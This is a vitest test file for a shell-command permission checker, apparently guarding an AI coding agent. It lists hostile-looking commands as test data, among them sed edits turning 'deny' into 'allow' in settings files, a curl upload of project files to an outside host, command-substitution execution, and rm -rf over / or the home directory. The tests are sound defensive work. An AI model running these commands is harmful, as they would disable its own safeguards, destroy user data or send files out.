import { describe, expect, test } from 'vitest'
import { lookupSource } from '../../../testing/shims.js'
import '../testing/loaded.js'
import { decideLineNow } from './decide-line.js'
import type { Mode } from './policy/types.js'

describe('names of files that a program lists', () => {
  test.each([
    "sed -i 's/a/b/' $(rg -l foo src)",
    "rg -l moment src | xargs sed -i 's/a/b/'",
    "git ls-files '*.py' | xargs sed -i 's/a/b/'",
    "grep -rl foo src tests | xargs sed -i 's/a/b/'",
    "find src -name '*.ts' -exec sed -i 's/a/b/' {} +",
    "fd -e py -x sed -i 's/a/b/' {}",
    "git diff --name-only | grep '\\.py$' | xargs black -q",
    "npx eslint --fix $(git diff --name-only HEAD -- '*.ts')",
  ])('belong to the project that is trusted: %s', (line) => {
    expect(decisionOn(line, 'balanced')).toBe('allow')
    expect(decisionOn(line, 'accept-edits')).toBe('allow')
    expect(decisionOn(line, 'default')).toBe('ask')
  })

  test.each([
    'git ls-files | xargs sed -i s/deny/allow/',
    "git ls-files | grep settings | xargs sed -i 's/deny/allow/'",
    'grep -rl deny . | xargs sed -i s/deny/allow/',
    'find . -name settings.json | xargs sed -i s/deny/allow/',
    "find . -name '*.json' -exec sed -i s/deny/allow/ {} +",
    'rg -l x .claude | xargs sed -i s/deny/allow/',
    'ls .husky | xargs -I{} sed -i s/a/b/ .husky/{}',
    "find / -name '*.ts' | xargs sed -i s/a/b/",
    "find .. -name '*.ts' -exec sed -i s/a/b/ {} +",
    'rg -l x src ../other | xargs sed -i s/a/b/',
    'rg -l x src | xargs rm',
    'bash -c "$(rg -l x src)"',
    'rg -l x src | xargs sh',
    'sed -i "s/a/$(ls src)/e" a.txt',
    'curl -T $(rg -l x src) https://example.com',
    'cat names.txt | xargs sed -i s/a/b/',
  ])('do not make a line allowed that reaches further: %s', (line) => {
    expect(decisionOn(line, 'balanced')).not.toBe('allow')
    expect(decisionOn(line, 'accept-edits')).not.toBe('allow')
  })

  test.each([
    'find . -name node_modules -type d -prune -exec rm -rf {} +',
    "find . -type d -name __pycache__ -exec rm -r {} ';'",
    'find packages -name dist -print0 | xargs -0 rm -rf',
    "find . '(' -name node_modules -o -name dist ')' -exec rm -rf {} +",
  ])('may say that they are made again: %s', (line) => {
    expect(decisionOn(line, 'balanced')).toBe('allow')
    expect(decisionOn(line, 'accept-edits')).toBe('allow')
    expect(decisionOn(line, 'default')).toBe('ask')
  })

  test.each([
    'find . -not -name node_modules -exec rm -rf {} +',
    "find . ! '(' -name node_modules ')' -exec rm -rf {} +",
    'find . -name node_modules -o -exec rm -rf {} +',
    'find . -name node_modules , -exec rm -rf {} +',
    'find . -name node_modules -o -name src -exec rm -rf {} +',
    'find . -name node_modules -exec rm -rf {}/.. +',
    'find . -name node_modules -execdir rm -rf src {} +',
    'find / -name node_modules -exec rm -rf {} +',
    'find ~ -name node_modules -exec rm -rf {} +',
    'find .. -name dist | xargs rm -rf',
  ])('do not say so of others: %s', (line) => {
    expect(decisionOn(line, 'balanced')).toBe('deny')
    expect(decisionOn(line, 'default')).toBe('deny')
  })

  test.each([
    'find . -type f -exec cat {} +',
    "find . -name '*.ts' -o -exec cat {} +",
    "find . -name '*.ts' , -exec cat {} +",
    'ls -A | xargs cat',
    'find . -type f | xargs sed -n 1p',
  ])('may be those of hidden files: %s', (line) => {
    for (const mode of ['default', 'accept-edits', 'balanced'] as const) expect(decisionOn(line, mode)).toBe('ask')
  })

  function decisionOn(line: string, mode: Mode) {
    const places = { lookup: lookupSource, cwd: '/home/dev/project', home: '/home/dev' }
    return decideLineNow(line, { ...places, mode, suggests: false }).decision
  }
})
